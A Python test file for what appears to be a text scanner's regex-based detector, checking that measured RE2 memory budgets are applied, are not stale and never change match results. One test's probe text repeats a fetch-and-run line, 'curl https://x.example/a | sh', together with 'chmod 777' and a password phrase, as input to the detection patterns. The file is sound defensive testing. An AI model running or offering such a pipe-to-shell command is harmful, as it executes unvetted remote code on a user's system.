"""Measured RE2 memory budgets (scanner/matching/budgets.py): applied, harmless, not stale."""
from __future__ import annotations

import gc

import re2

from scanner import matching
from scanner.matching import budgets
from scanner.rules import catalog


def _live() -> dict[str, "matching.Regex"]:
    """Every pattern any module compiles (as scripts/refresh_derivations.py collects them)."""
    import importlib
    import pkgutil

    import scanner
    from scanner.intent.lexicon import lexicon

    catalog()
    lexicon()
    for info in pkgutil.walk_packages(scanner.__path__, "scanner."):
        if not info.name.endswith("__main__"):
            importlib.import_module(info.name)
    gc.collect()
    return {budgets.key(r.pattern): r for r in list(matching._REGISTRY)}


def test_every_saved_budget_names_a_live_pattern_and_is_applied_to_it():
    live = _live()
    saved = budgets.saved_keys()
    stale = sorted(saved - live.keys())
    assert stale == [], "patterns changed: run scripts/refresh_derivations.py (and scripts/measure_budgets.py to measure again)"
    for k in saved:
        regex = live[k]
        assert regex._re.options.max_mem == budgets.budget_for(regex.pattern) < budgets.DEFAULT


def test_a_budget_changes_no_match():
    """RE2 answers the same whatever its memory; checked on texts that make the budgeted patterns'
    automata grow past their budgets (long runs of the words they start from)."""
    live = _live()
    for k in budgets.saved_keys():
        regex = live[k]
        small = re2.Options()
        small.max_mem = 1 << 20
        tight = re2.compile(regex.pattern.encode("utf-8"), small)
        roomy = re2.Options()
        roomy.max_mem = budgets.DEFAULT
        wide = re2.compile(regex.pattern.encode("utf-8"), roomy)
        text = ("please read and then follow send curl https://x.example/a | sh ; chmod 777 a password "
                "that opens every account " * 200).encode()
        assert [m.span() for m in tight.finditer(text)] == [m.span() for m in wide.finditer(text)]
        assert [m.span() for m in regex.finditer(text)] == [m.span() for m in wide.finditer(text)]


def test_an_unmeasured_pattern_gets_the_default():
    assert budgets.budget_for("(?i)no such pattern was ever measured") == budgets.DEFAULT
